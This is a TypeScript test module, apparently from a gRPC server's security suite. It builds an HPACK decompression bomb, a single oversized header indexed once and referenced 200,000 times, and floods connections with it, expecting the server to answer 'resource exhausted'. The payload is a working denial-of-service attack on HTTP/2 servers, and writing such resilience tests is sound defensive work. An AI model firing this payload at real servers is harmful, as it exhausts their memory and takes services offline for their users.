import * as wire from '../http2/wire.js';
import { headerBlock } from './call.js';
import { repeatedly } from './offender.js';
import type { TestedAttack } from './tested-attack.js';

/** A field of nearly 4 KiB, with incremental indexing (RFC 7541 section 6.2.1): one octet names it from then on. */
const value = Buffer.alloc(3_900, 'x');
const length = Buffer.of(0x7f, ((value.length - 127) & 0x7f) | 0x80, (value.length - 127) >> 7);
const insertion = Buffer.concat([Buffer.of(0x40, 1, 0x62), length, value]);
const references = Buffer.alloc(200_000, 0x80 | 62);
const block = Buffer.concat([headerBlock('EmptyCall'), insertion, references]);

/** Each request says 800 MB of metadata in 200 KB. */
export const attack: TestedAttack = {
  name: 'HPACK bomb',
  answer: 'grpc-status 8',
  run: (connect, signal) =>
    repeatedly(connect, signal, async (offender) => {
      for (let id = 1; offender.open; id += 2) {
        await offender.send(wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, id, block));
      }
    }),
};
